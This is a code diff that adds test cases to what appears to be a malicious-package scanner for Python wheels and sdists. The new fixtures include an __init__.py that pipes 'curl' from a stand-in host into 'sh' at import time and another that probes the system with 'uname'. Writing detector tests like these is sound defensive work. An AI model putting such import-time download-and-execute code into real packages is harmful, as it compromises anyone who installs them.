@@ -232,6 +232,13 @@ CASES = [
     Case(id="pth-in-wheel-data", kind="wheel",
          files={"evilpkg-1.0.data/purelib/zz.pth": "import socket; socket.socket()\n"},
          rule="mal.pth-exec", member="evilpkg-1.0.data/purelib/zz.pth", line=1),
+    Case(id="import-time-dropper", kind="wheel",
+         files={"evilpkg/__init__.py": "import os\n\nos.system('curl -fsS x.example | sh')\n"},
+         rule="mal.import-time-process", member="evilpkg/__init__.py", line=3),
+    Case(id="import-time-probe", kind="wheel",
+         files={"evilpkg/__init__.py": "import subprocess as s\nA = s.check_output(['uname'])\n"},
+         rule="mal.import-time-process", member="evilpkg/__init__.py", line=2,
+         severity=Severity.WARNING),
     Case(id="in-tree-backend", kind="sdist",
          files={"pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n'
                 'build-backend = "backend"\nbackend-path = ["_build"]\n',
